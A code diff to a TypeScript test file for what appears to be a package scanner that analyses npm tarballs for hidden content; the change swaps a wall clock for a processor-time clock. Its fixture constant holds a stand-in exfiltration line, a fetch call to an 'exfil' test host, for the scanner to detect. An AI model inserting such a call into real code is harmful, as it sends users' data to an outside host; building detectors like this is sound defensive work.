@@ -8,10 +8,14 @@ import { describe, expect, test } from 'vitest';
 import { analyzeFile } from './analyze-file.ts';
 import { DEFAULT_ANALYSIS_BUDGET } from './limits.ts';
 import { createMemoryView } from './memory-view.ts';
+import { createProcessorClock } from './processor-time.ts';
 import { scanUnread } from './unread-scan.ts';
 
 const MANIFEST = '{"name":"x","version":"1.0.0","main":"a.js"}';
 const HIDDEN = `fetch('https://exfil.weir.test/collect');`;
+
+/** As in a child of the pool: what is found must not depend on what else the machine does. */
+const now = createProcessorClock();
 
 async function analyze(bytes: Buffer): Promise<AnalysisResult> {
   const directory = await mkdtemp(join(tmpdir(), 'weir-analysis-test-'));
@@ -20,7 +24,7 @@ async function analyze(bytes: Buffer): Promise<AnalysisResult> {
     await writeFile(path, bytes);
     const result = await analyzeFile(
       { path, filename: 'x.tgz', ecosystem: 'npm', context: null },
-      { rulesetVersion: 'test', now: () => performance.now() },
+      { rulesetVersion: 'test', now },
     );
     expect(analysisResultSchema.safeParse(result).error).toBeUndefined();
     return result;
